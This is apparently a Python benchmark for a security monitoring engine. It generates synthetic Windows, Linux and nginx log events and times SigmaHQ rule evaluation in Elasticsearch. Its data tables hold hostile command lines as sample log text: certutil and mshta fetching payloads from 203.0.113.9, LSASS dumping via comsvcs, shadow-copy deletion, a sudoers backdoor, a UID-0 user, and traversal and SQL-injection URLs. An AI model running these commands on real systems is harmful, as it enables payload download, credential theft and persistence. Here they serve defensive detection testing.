"""Detection cost benchmark: one evaluation cycle of the SigmaHQ rules, batched vs one search per rule,
and the engine's ingest-to-alert latency on a 10-second interval.

    .venv/bin/python bench/detection_cycle.py [--es-url URL] [--events N] [--rate R] [--window S]
        [--rounds K] [--latency-events M] [--latency-rules marker|all] [--no-rollover] [--no-settle]
        [--json]

Elasticsearch is `--es-url`, else HCM_SOC_ES_URL, else http://127.0.0.1:9270. Everything goes under
a fresh prefix (`bench<random>`, templates installed, removed at the end unless `--keep`).

1. Rules: the SigmaHQ Windows, Linux and web rules from `$HCM_SOC_SIGMAHQ_DIR/rules` (default
   ../shared/corpus/sigmahq/rules) are loaded and compiled with the hcm-soc pipeline.
2. Stored events: N (default 1,000,000) realistic events — Sysmon and Security EVTX records, linux
   auth syslog lines and nginx access lines, generated with a fixed seed and turned into ECS by the
   project's own parsers (`parse_evtx_record`, `parse_syslog`, `parse_nginx`, `finish`) — are
   written through `BulkWriter` into the event data streams. About 0.2 % are attacks that SigmaHQ
   rules catch (whoami, encoded PowerShell, shadow-copy deletion, path traversal, sqlmap, …).
   The streams are then rolled over (as a size/age rollover policy would), so that the measured
   window lives in fresh backing indices and `can_match` skips the stored ones; `--no-rollover`
   keeps the stored events in the write indices with the stream (every rule query then meets the
   term dictionaries of 1M events: far slower for both methods, see docs/detection-cost.md).
   Then the benchmark waits until Elasticsearch has finished merging the stored events' segments
   (`--no-settle`: it does not; loading 1M events in minutes leaves merges running for minutes
   more, on the cores the measured searches need — not the steady state of a city's cluster).
3. A stream of R events/s (default 1,000) from the same generator runs through a second
   `BulkWriter` for the rest of the benchmark. The benchmark waits one window so that the
   measured window holds stream events only.
4. Cycle: K rounds (default 2) of all compiled rules over the last window ([now − 2 s − S, now −
   2 s), S default 60 = the engine's default interval), once with `evaluate_batch` and once with
   `find_matches` per rule, in alternating order; both results are compared rule by rule.
5. Latency: the real engine (`start_engine`, interval 10 s, safety margin 2 s, no jitter, the
   engine's batch setting on when it has one) runs a marker rule (`--latency-rules all`: the
   marker plus every SigmaHQ rule, all on 10 s); M (default 24) marker events are injected into
   the stream at irregular moments; latency = the alert's `hcm.created` − the event's
   `event.ingested`.

Progress goes to stderr, the summary to stdout (`--json`: one JSON object).
"""

from __future__ import annotations

import argparse
import contextlib
import json
import math
import os
import random
import statistics
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
from elasticsearch import Elasticsearch

from hcm_soc.config import DetectionSettings, load_settings
from hcm_soc.detection.batch import evaluate_batch
from hcm_soc.detection.compiler import PythonCheckedRule, RuleCompiler
from hcm_soc.detection.engine import floor_ms
from hcm_soc.detection.loader import load_rules
from hcm_soc.detection.matcher import find_matches
from hcm_soc.detection.model import CompiledRule, MatchResult, Window
from hcm_soc.detection.scheduler import prepare_rules, start_engine
from hcm_soc.parsers.base import ParseContext, SourceInfo, finish
from hcm_soc.parsers.evtx import parse_evtx_record
from hcm_soc.parsers.syslog import parse_syslog
from hcm_soc.parsers.web import parse_nginx
from hcm_soc.store.bulk import BulkWriter
from hcm_soc.store.client import make_client
from hcm_soc.store.detection_state import DetectionStateStore
from hcm_soc.store.names import IndexNames
from hcm_soc.store.templates import build_items, install, uninstall
from machine import machine_line

REPO = Path(__file__).resolve().parent.parent
SEED = 20261126
MARGIN = 2.0  # seconds: the cycle's window ends this long before now (as the engine's safety margin)
MARKER = "hcm-bench-marker"


def progress(message: str) -> None:
    print(f"[bench] {message}", file=sys.stderr, flush=True)


# --- events: raw records of four sources, turned into ECS by the project's parsers -------------------

SYSMON, SECURITY = "Microsoft-Windows-Sysmon/Operational", "Security"
HOSTS = [
    f"{d}-{k:02d}.{d}.hcm.local" for d in ("stc", "sogtvt", "soyte", "sotnmt", "ubnd") for k in range(1, 25)
]
# data tables: one entry per line reads better than the formatter's layout
# fmt: off
USERS = ['nguyen.van.an', 'tran.thi.binh', 'le.hoang.cuong', 'pham.thu.dung', 'admin', 'svc_backup', 'vo.minh.em']
BENIGN_PROCS = [
    ('C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {svc}'),
    ('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"chrome.exe" --type=renderer --field-trial-handle={n},{m} /prefetch:1'),
    ('C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'),
    ('C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\BaoCao_{n}.docx"'),
    ('C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '"msedge.exe" --single-argument https://dichvucong.hochiminhcity.gov.vn/hs/{n}'),
    ('C:\\Windows\\System32\\SearchProtocolHost.exe', '"SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n}'),
    ('C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {{{guid}}}'),
    ('C:\\Program Files\\7-Zip\\7z.exe', '"7z.exe" a C:\\Backup\\hoso_{n}.7z D:\\HoSo\\{m}'),
]
ATTACK_PROCS = [
    ('C:\\Windows\\System32\\whoami.exe', 'whoami /all'),
    ('C:\\Windows\\System32\\net.exe', 'net user /domain'),
    ('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'),
    ('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'),
    ('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'),
    ('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full'),
    ('C:\\Windows\\System32\\schtasks.exe', 'schtasks /create /tn Upd /tr C:\\Users\\Public\\u.exe /sc onlogon /ru SYSTEM'),
    ('C:\\Windows\\System32\\mshta.exe', 'mshta.exe http://203.0.113.9/p.hta'),
]
URLS = [
    '/',
    '/dich-vu-cong/tra-cuu?ma={n}',
    '/api/v1/hoso/{n}',
    '/static/js/app.{m}.js',
    '/tin-tuc/{n}.html',
]
ATTACK_URLS = [
    '/cgi-bin/x?f=../../../../etc/passwd',
    '/index.php?id=1%27%20union%20select%201,2--',
    '/?q=<script>alert(1)</script>',
    '/.env',
    '/wp-admin/install.php',
]
AGENTS = [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36',
    'Zalo/24.10 (Android 14)',
]
# fmt: on
SOURCES = {
    "windows.evtx": SourceInfo("so-tai-chinh-windows-evtx", "windows.evtx", "windows"),
    "system.auth": SourceInfo("sotttt-linux-auth-syslog", "system.auth", "system"),
    "nginx.access": SourceInfo("cong-dich-vu-cong-nginx", "nginx.access", "nginx"),
}


class EventFactory:
    """Deterministic events (for a seed): 65 % Windows (Sysmon 1/3/7/11/13/22, Security 4624/4625/4688),
    20 % linux auth, 15 % nginx; `attack_rate` of them are attacks."""

    def __init__(self, seed: int, attack_rate: float = 0.002) -> None:
        self.rng = random.Random(seed)
        self.attack_rate = attack_rate
        self.record = 0
        self.ctx = {d: ParseContext(d) for d in SOURCES}

    def event(self, *, marker: str | None = None) -> tuple[str, dict[str, Any]]:
        r, now = self.rng.random(), datetime.now(UTC)
        if marker is not None:
            return self._windows(now, 1, attack=(f"C:\\Tools\\{MARKER}.exe", f"{MARKER} {marker}"))
        attack = self.rng.random() < self.attack_rate
        if r < 0.65:
            eid = self.rng.choices(
                [1, 3, 7, 11, 13, 22, 4624, 4625, 4688], [20, 15, 20, 10, 10, 10, 8, 2, 5]
            )[0]
            return self._windows(now, eid, attack=self.rng.choice(ATTACK_PROCS) if attack else None)
        if r < 0.85:
            return self._linux(now, attack)
        return self._nginx(now, attack)

    def _windows(self, now: datetime, eid: int, attack: tuple[str, str] | None) -> tuple[str, dict[str, Any]]:
        rng, self.record = self.rng, self.record + 1
        n, user, host = rng.randrange(10**6), rng.choice(USERS), rng.choice(HOSTS)
        image, cmd = attack or rng.choice(BENIGN_PROCS)
        cmd = cmd.format(
            svc=rng.choice(["Schedule", "gpsvc", "BITS"]),
            n=n,
            m=rng.randrange(9999),
            user=user,
            guid=uuid.UUID(int=rng.getrandbits(128)),
        )
        data: dict[str, Any] = {
            "UtcTime": now.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": str(uuid.UUID(int=rng.getrandbits(128))).upper(),
            "ProcessId": rng.randrange(300, 65000),
            "Image": image,
            "User": f"HCM\\{user}",
        }
        if attack is not None:
            eid = 1 if eid not in (1, 4688) else eid
        if eid == 1:
            data |= {
                "CommandLine": cmd,
                "CurrentDirectory": f"C:\\Users\\{user}\\",
                "IntegrityLevel": "Medium",
                "ParentImage": "C:\\Windows\\explorer.exe",
                "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
                "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
                "Hashes": f"SHA256={rng.getrandbits(256):064X}",
            }
        elif eid == 3:
            data |= {
                "Protocol": "tcp",
                "Initiated": "true",
                "SourceIp": f"10.{rng.randrange(1, 60)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                "SourcePort": rng.randrange(49152, 65535),
                "DestinationIp": f"{rng.choice([10, 113, 172])}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                "DestinationPort": rng.choice([443, 80, 445, 53, 3389, 8443]),
            }
        elif eid == 7:
            dll = rng.choice(
                ["ntdll.dll", "kernel32.dll", "user32.dll", "crypt32.dll", "wininet.dll", f"Temp\\{n}.dll"]
            )
            data |= {
                "ImageLoaded": f"C:\\Windows\\System32\\{dll}",
                "Signed": "true",
                "Signature": "Microsoft Windows",
                "SignatureStatus": "Valid",
            }
        elif eid == 11:
            data |= {
                "TargetFilename": f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{rng.choice(['tmp', 'msi', 'log'])}{n}.tmp"
            }
        elif eid == 13:
            data |= {
                "EventType": "SetValue",
                "TargetObject": f"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\{n}",
                "Details": f"DWORD (0x{n:08x})",
            }
        elif eid == 22:
            data |= {
                "QueryName": rng.choice(
                    ["hochiminhcity.gov.vn", "update.microsoft.com", f"cdn{n % 97}.zalo.me"]
                ),
                "QueryStatus": "0",
                "QueryResults": "::ffff:113.161.1.1;",
            }
        elif eid in (4624, 4625):
            data = {
                "TargetUserName": user,
                "TargetDomainName": "HCM",
                "LogonType": rng.choice(["2", "3", "10"]),
                "IpAddress": f"10.{rng.randrange(1, 60)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                "WorkstationName": host.split(".")[0].upper(),
                "LogonProcessName": "NtLmSsp",
                "AuthenticationPackageName": "NTLM",
            }
        elif eid == 4688:
            data = {
                "SubjectUserName": user,
                "SubjectDomainName": "HCM",
                "NewProcessName": image,
                "CommandLine": cmd,
                "ParentProcessName": "C:\\Windows\\explorer.exe",
                "NewProcessId": hex(rng.randrange(300, 65000)),
            }
        channel = SECURITY if eid >= 4000 else SYSMON
        provider = "Microsoft-Windows-Security-Auditing" if eid >= 4000 else "Microsoft-Windows-Sysmon"
        when = now.isoformat().replace("+00:00", "Z")
        system = {
            "Provider": {"#attributes": {"Name": provider}},
            "EventID": eid,
            "EventRecordID": self.record,
            "Channel": channel,
            "Computer": host,
            "TimeCreated": {"#attributes": {"SystemTime": when}},
            "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 88}},
        }
        record = {
            "event_record_id": self.record,
            "timestamp": when,
            "data": {"Event": {"System": system, "EventData": data}},
        }
        doc = parse_evtx_record(record, self.ctx["windows.evtx"])
        return "windows.evtx", finish(
            doc, orjson.dumps(record["data"]).decode(), SOURCES["windows.evtx"], now
        )

    def _linux(self, now: datetime, attack: bool) -> tuple[str, dict[str, Any]]:
        rng = self.rng
        user, host = rng.choice(USERS), rng.choice(HOSTS).split(".")[0]
        ip = f"{rng.choice([10, 113, 203])}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        port, pid = rng.randrange(1024, 65535), rng.randrange(300, 99999)
        if attack:
            program, msg = rng.choice(
                [
                    (
                        "sudo",
                        f"{user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c 'echo {user} ALL=(ALL) NOPASSWD:ALL >> /etc/sudoers'",
                    ),
                    ("useradd", "new user: name=backd00r, UID=0, GID=0, home=/root, shell=/bin/bash"),
                    ("sshd", f"Failed password for invalid user oracle from {ip} port {port} ssh2"),
                ]
            )
        else:
            program, msg = rng.choice(
                [
                    (
                        "sshd",
                        f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{rng.getrandbits(96):024x}",
                    ),
                    ("sshd", f"Failed password for {user} from {ip} port {port} ssh2"),
                    (
                        "sshd",
                        f"pam_unix(sshd:session): session opened for user {user}(uid={pid % 5000}) by (uid=0)",
                    ),
                    ("CRON", f"pam_unix(cron:session): session closed for user {user}"),
                    (
                        "sudo",
                        f"{user} : TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx",
                    ),
                ]
            )
        line = f"<38>{now.strftime('%b %d %H:%M:%S')} {host} {program}[{pid}]: {msg}"
        return "system.auth", finish(
            parse_syslog(line, self.ctx["system.auth"]), line, SOURCES["system.auth"], now
        )

    def _nginx(self, now: datetime, attack: bool) -> tuple[str, dict[str, Any]]:
        rng = self.rng
        path = (
            rng.choice(ATTACK_URLS)
            if attack
            else rng.choice(URLS).format(n=rng.randrange(10**6), m=rng.randrange(9999))
        )
        agent = (
            "sqlmap/1.7.2#stable (https://sqlmap.org)"
            if attack and rng.random() < 0.3
            else rng.choice(AGENTS)
        )
        ip = f"{rng.choice([14, 113, 171, 27])}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        stamp = now.astimezone(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
        line = f'{ip} - - [{stamp}] "GET {path} HTTP/1.1" {rng.choice([200, 200, 200, 304, 404])} {rng.randrange(200, 90000)} "-" "{agent}"'
        return "nginx.access", finish(
            parse_nginx(line, self.ctx["nginx.access"]), line, SOURCES["nginx.access"], now
        )


def load_stored(es: Elasticsearch, names: IndexNames, n: int) -> dict[str, float]:
    factory, t0 = EventFactory(SEED), time.perf_counter()
    with BulkWriter(es, names, flush_interval=1.0) as writer:
        for i in range(n):
            dataset, doc = factory.event()
            writer.add(names.events(dataset), doc, id_key=f"stored:{i}")
            if (i + 1) % 100_000 == 0:
                progress(f"stored {i + 1:,} events ({(i + 1) / (time.perf_counter() - t0):,.0f}/s)")
    seconds = time.perf_counter() - t0
    es.indices.refresh(index=names.events_pattern)
    return {"events": n, "seconds": round(seconds, 1), "events_per_s": round(n / seconds)}


def settle(es: Elasticsearch, pattern: str, timeout: float) -> float:
    """Wait (at most `timeout` s) until no merge runs on the indices of `pattern` for 5 s in a row;
    return the seconds waited. Loading 1,000,000 events in a few minutes leaves Elasticsearch merging
    their segments for minutes more, on the same cores the measured searches need; a cluster that has
    stored its events over days is not doing that, and the measurement should not see it either."""
    started = time.monotonic()
    quiet_since: float | None = None
    while time.monotonic() - started < timeout:
        stats = es.indices.stats(index=pattern, metric="merge", expand_wildcards="all")
        current = int(stats["_all"]["total"]["merges"]["current"])
        now = time.monotonic()
        if current == 0:
            quiet_since = quiet_since or now
            if now - quiet_since >= 5.0:
                break
        else:
            quiet_since = None
        time.sleep(1.0)
    return round(time.monotonic() - started, 1)


class Streamer(threading.Thread):
    """`rate` events/s through a BulkWriter (as a collector sends them) until stopped; `inject` adds a
    marker event and returns its id."""

    def __init__(self, es: Elasticsearch, names: IndexNames, rate: int) -> None:
        super().__init__(name="bench-stream", daemon=True)
        self.names, self.rate = names, rate
        self.factory = EventFactory(SEED + 1)
        self.writer = BulkWriter(es, names, flush_interval=0.5)
        self.stop_event, self.sent, self.started = threading.Event(), 0, time.monotonic()
        self.lock = threading.Lock()
        self.pending: list[str] = []

    def inject(self, label: str) -> str:
        with self.lock:
            dataset, doc = self.factory.event(marker=label)
            return self.writer.add(self.names.events(dataset), doc, id_key=f"marker:{label}")

    def run(self) -> None:
        tick = 0.05
        while not self.stop_event.is_set():
            due = int((time.monotonic() - self.started) * self.rate)
            with self.lock:
                while self.sent < due:
                    dataset, doc = self.factory.event()
                    self.writer.add(self.names.events(dataset), doc, id_key=f"stream:{self.sent}")
                    self.sent += 1
            self.stop_event.wait(tick)
        self.writer.close()

    def achieved(self) -> float:
        return self.sent / (time.monotonic() - self.started)


# --- the cycle --------------------------------------------------------------------------------------


class Counting:
    """Passes searches to the client and counts the requests."""

    def __init__(self, es: Elasticsearch) -> None:
        self.es, self.requests, self.searches = es, 0, 0

    def msearch(self, **kw: Any) -> Any:
        self.requests += 1
        self.searches += len(kw["searches"]) // 2
        return self.es.msearch(**kw)

    def search(self, **kw: Any) -> Any:
        self.requests += 1
        self.searches += 1
        return self.es.search(**kw)

    @property
    def nodes(self) -> Any:  # node info (the batch reads the data nodes' processors once), not counted
        return self.es.nodes

    @property
    def indices(self) -> Any:  # index settings (read once per new backing index), not counted
        return self.es.indices


def measure_cycle(
    es: Elasticsearch, rules: list[CompiledRule], window_s: float, rounds: int, limit: int
) -> dict[str, Any]:
    batch_t, single_t, mismatches, info = [], [], 0, {}
    for r in range(rounds):
        now = datetime.now(UTC)
        window = Window(
            floor_ms(now - timedelta(seconds=MARGIN + window_s)), floor_ms(now - timedelta(seconds=MARGIN))
        )
        items = [(c, window) for c in rules]
        runs: dict[str, tuple[float, list[MatchResult], Counting]] = {}
        methods: list[tuple[str, Callable[[Any, list[Any]], list[MatchResult]]]] = [
            ("batch", lambda client, items: evaluate_batch(client, items, limit=limit)),
            ("per_rule", lambda client, items: [find_matches(client, c, w, limit=limit) for c, w in items]),
        ]
        for name, run in methods if r % 2 == 0 else methods[::-1]:
            counting = Counting(es)
            t0 = time.perf_counter()
            results = run(counting, items)
            runs[name] = (time.perf_counter() - t0, results, counting)
            progress(f"round {r + 1}: {name} {runs[name][0]:.2f} s, {counting.requests} requests")
        batch_t.append(runs["batch"][0])
        single_t.append(runs["per_rule"][0])
        for a, b in zip(runs["batch"][1], runs["per_rule"][1], strict=True):
            mismatches += [m.key for m in a.matches] != [m.key for m in b.matches] or a.examined != b.examined
        info = {
            "window_events": es.count(
                index=rules[0].indices[0],
                query={
                    "range": {
                        "event.ingested": {"gte": window.start.isoformat(), "lt": window.end.isoformat()}
                    }
                },
            )["count"],
            "matches": sum(len(x.matches) for x in runs["batch"][1]),
            "rules_matching": sum(1 for x in runs["batch"][1] if x.matches),
            "batch_requests": runs["batch"][2].requests,
            "batch_sub_searches": runs["batch"][2].searches,
            "per_rule_requests": runs["per_rule"][2].requests,
        }
    b, s = statistics.median(batch_t), statistics.median(single_t)
    return {
        "window_s": window_s,
        "rounds": rounds,
        "batch_s": round(b, 3),
        "per_rule_s": round(s, 3),
        "ratio": round(s / b, 1),
        "batch_all_s": [round(x, 3) for x in batch_t],
        "per_rule_all_s": [round(x, 3) for x in single_t],
        "results_differ_for": mismatches,
        **info,
    }


# --- latency ----------------------------------------------------------------------------------------


def measure_latency(
    es: Elasticsearch,
    names: IndexNames,
    streamer: Streamer,
    loaded_rules: list[Any],
    n_events: int,
    interval: float,
    all_rules: bool,
) -> dict[str, Any]:
    folder = Path(tempfile.mkdtemp(prefix="hcm-bench-rule-"))
    rid = str(uuid.uuid4())
    (folder / "marker.yml").write_text(
        f"title: bench latency marker\nid: {rid}\nstatus: test\nlevel: high\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|contains: '{MARKER}'\n  condition: sel\n",
        "utf-8",
    )
    marker = load_rules([folder]).rules
    engine_rules, _ = prepare_rules(
        [*marker, *(loaded_rules if all_rules else [])], names, default_interval=timedelta(seconds=interval)
    )
    values: dict[str, Any] = {
        "interval": interval,
        "safety_margin": MARGIN,
        "jitter": 0,
        "initial_lookback": 30,
    }
    if "batch" in DetectionSettings.model_fields:
        values["batch"] = True
    base = load_settings(env={})
    settings = base.model_copy(update={"detection": base.detection.model_copy(update=values)})
    stop = threading.Event()
    handle = start_engine(settings, es, names, stop_event=stop, rules=engine_rules, workers=2)
    state = DetectionStateStore(es, names)
    try:
        deadline = time.monotonic() + 180
        while (health := state.health(rid)) is None or health.last_success is None:
            if time.monotonic() > deadline:
                raise RuntimeError("the engine did not run the marker rule within 180 s")
            time.sleep(0.5)
        progress(
            f"engine running ({len(engine_rules)} rules every {interval:g} s); injecting {n_events} marker events"
        )
        rng, ids = random.Random(SEED), []
        for k in range(n_events):
            ids.append(streamer.inject(f"{k}"))
            time.sleep(rng.uniform(0.4, 2.6))  # irregular moments: every phase of the engine's 10 s tick
        deadline = time.monotonic() + 3 * interval + 60
        while True:
            es.indices.refresh(index=names.alerts)
            found = es.search(index=names.alerts, size=1000, query={"term": {"rule.id": rid}})["hits"]["hits"]
            if len(found) >= n_events or time.monotonic() > deadline:
                break
            time.sleep(1)
    finally:
        stop.set()
        handle.join(timeout=120)
    events = es.search(
        index=names.events_pattern, size=len(ids), query={"ids": {"values": ids}}, source=["event.ingested"]
    )["hits"]["hits"]
    ingested = {
        h["_id"]: datetime.fromisoformat(h["_source"]["event"]["ingested"].replace("Z", "+00:00"))
        for h in events
    }
    latencies = []
    for hit in found:
        created = datetime.fromisoformat(hit["_source"]["hcm"]["created"].replace("Z", "+00:00"))
        event_id = hit["_source"]["hcm"]["events"][0]["id"]
        if event_id in ingested:
            latencies.append((created - ingested[event_id]).total_seconds())
    latencies.sort()
    stats = handle.engine.stats()
    return {
        "interval_s": interval,
        "safety_margin_s": MARGIN,
        "engine_rules": len(engine_rules),
        "batch_setting": values.get("batch", "n/a"),
        "injected": n_events,
        "alerts": len(found),
        "p50_s": percentile(latencies, 50),
        "p95_s": percentile(latencies, 95),
        "max_s": latencies[-1] if latencies else None,
        "engine_counters": stats,
    }


def cleanup(es: Elasticsearch, names: IndexNames) -> None:
    """Remove the benchmark's data. `uninstall` resolves `<prefix>-*`, which misses the backing
    indices a rollover left behind (`.ds-<prefix>-…`): delete those that are no write index."""
    from elasticsearch import ApiError

    uninstall(es, names)
    left = es.indices.resolve_index(name=f".ds-{names.prefix}-*", expand_wildcards="all")
    for ix in left.get("indices", []):
        if "open" in ix.get("attributes", []):
            with contextlib.suppress(ApiError):
                es.indices.delete(index=ix["name"])


def percentile(values: list[float], p: float) -> float | None:
    """Nearest-rank percentile of sorted `values`."""
    if not values:
        return None
    rank = max(1, min(len(values), math.ceil(p / 100 * len(values))))
    return round(values[rank - 1], 2)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    ap.add_argument("--es-url", default=os.environ.get("HCM_SOC_ES_URL") or "http://127.0.0.1:9270")
    ap.add_argument("--events", type=int, default=1_000_000, help="stored events (default 1,000,000)")
    ap.add_argument("--rate", type=int, default=1000, help="stream events per second (default 1,000)")
    ap.add_argument("--window", type=float, default=60.0, help="seconds of the evaluated window (default 60)")
    ap.add_argument("--rounds", type=int, default=2, help="cycles per method (default 2)")
    ap.add_argument("--limit", type=int, default=1000, help="matches per rule and run (max_alerts_per_run)")
    ap.add_argument("--latency-events", type=int, default=24)
    ap.add_argument("--latency-rules", choices=("marker", "all"), default="marker")
    ap.add_argument("--interval", type=float, default=10.0, help="the engine's interval in the latency run")
    ap.add_argument(
        "--rollover",
        action=argparse.BooleanOptionalAction,
        default=True,
        help="roll the event streams over after loading, as a size/age rollover would (default: yes)",
    )
    ap.add_argument(
        "--settle",
        action=argparse.BooleanOptionalAction,
        default=True,
        help="before the stream starts, wait until Elasticsearch has finished merging the stored "
        "events (a steady state: a city's stored events were written long before; default: yes)",
    )
    ap.add_argument("--settle-timeout", type=float, default=600.0, help="longest wait for the merges (s)")
    ap.add_argument(
        "--sigma-dir",
        type=Path,
        default=Path(os.environ.get("HCM_SOC_SIGMAHQ_DIR") or REPO.parent / "shared/corpus/sigmahq"),
    )
    ap.add_argument("--skip-cycle", action="store_true", help="measure the latency only")
    ap.add_argument("--keep", action="store_true", help="keep the benchmark's indices")
    ap.add_argument("--json", action="store_true")
    args = ap.parse_args(argv)

    started = time.perf_counter()
    out: dict[str, Any] = {
        "machine": machine_line(),
        "es_url": args.es_url,
        "load_average_at_start": os.getloadavg(),
    }
    # one batched request or one per-rule search over a big index can take minutes: no client timeout
    es = make_client(load_settings(env={}), urls=[args.es_url]).options(request_timeout=1800)
    out["elasticsearch"] = es.info()["version"]["number"]
    names = IndexNames(prefix=f"bench{uuid.uuid4().hex[:8]}", namespace="bench")
    progress(
        f"{out['machine']}; Elasticsearch {out['elasticsearch']} at {args.es_url}; prefix {names.prefix}"
    )

    t0 = time.perf_counter()
    load = load_rules([args.sigma_dir / "rules" / d for d in ("windows", "linux", "web")])
    compiled, problems = RuleCompiler(names).compile_all([r for r in load.rules if r.kind == "detection"])
    out["rules"] = {
        "loaded": len(load.rules),
        "not_loaded": len(load.problems),
        "compiled": len(compiled),
        "python_checked": sum(isinstance(c, PythonCheckedRule) for c in compiled),
        "not_compiled": len(problems),
        "seconds": round(time.perf_counter() - t0, 1),
    }
    progress(f"rules: {out['rules']}")

    install(es, build_items(names))
    streamer: Streamer | None = None
    try:
        out["stored"] = load_stored(es, names, args.events)
        progress(f"stored: {out['stored']}")
        if args.rollover:
            resolved = es.indices.resolve_index(name=names.events_pattern, expand_wildcards="all")
            for ds in resolved.get("data_streams", []):
                es.indices.rollover(alias=ds["name"])
        out["rollover"] = args.rollover
        if args.settle:
            out["settle_s"] = settle(es, names.events_pattern, args.settle_timeout)
            progress(f"stored events' merges settled in {out['settle_s']} s")
        streamer = Streamer(es, names, args.rate)
        streamer.start()
        progress(
            f"streaming {args.rate}/s; waiting {args.window + MARGIN + 2:g} s so the window holds stream events only"
        )
        time.sleep(args.window + MARGIN + 2)
        if not args.skip_cycle:
            out["cycle"] = measure_cycle(es, compiled, args.window, args.rounds, args.limit)
            progress(f"cycle: {out['cycle']}")
        out["latency"] = measure_latency(
            es, names, streamer, load.rules, args.latency_events, args.interval, args.latency_rules == "all"
        )
        progress(f"latency: {out['latency']}")
        out["stream_events_per_s"] = round(streamer.achieved())
    finally:
        if streamer is not None:
            streamer.stop_event.set()
            streamer.join(timeout=60)
        if not args.keep:
            cleanup(es, names)
    out["total_seconds"] = round(time.perf_counter() - started)
    if args.json:
        print(json.dumps(out, default=str))
        return 0
    c, lat = out.get("cycle"), out["latency"]
    print(
        f"machine: {out['machine']}\nElasticsearch {out['elasticsearch']} at {args.es_url}, load average at start {out['load_average_at_start']}"
    )
    print(
        f"rules: {out['rules']}\nstored: {out['stored']}, rollover: {args.rollover}, stream {out['stream_events_per_s']} events/s"
    )
    if c is not None:
        print(
            f"cycle over the last {c['window_s']:g} s ({c['window_events']:,} events, {c['matches']} matches by {c['rules_matching']} rules), median of {c['rounds']}:"
        )
        print(
            f"  evaluate_batch  {c['batch_s']:.2f} s  ({c['batch_requests']} requests, {c['batch_sub_searches']} searches)"
        )
        print(f"  per rule        {c['per_rule_s']:.2f} s  ({c['per_rule_requests']} requests)")
        print(f"  ratio {c['ratio']}x (goal >= 5x); rules whose results differ: {c['results_differ_for']}")
    print(
        f"latency, {lat['engine_rules']} rule(s) every {lat['interval_s']:g} s, margin {lat['safety_margin_s']:g} s, batch={lat['batch_setting']}: {lat['alerts']}/{lat['injected']} alerts, p50 {lat['p50_s']} s, p95 {lat['p95_s']} s, max {lat['max_s']} s (goal p95 < 15 s)"
    )
    print(f"total {out['total_seconds']} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
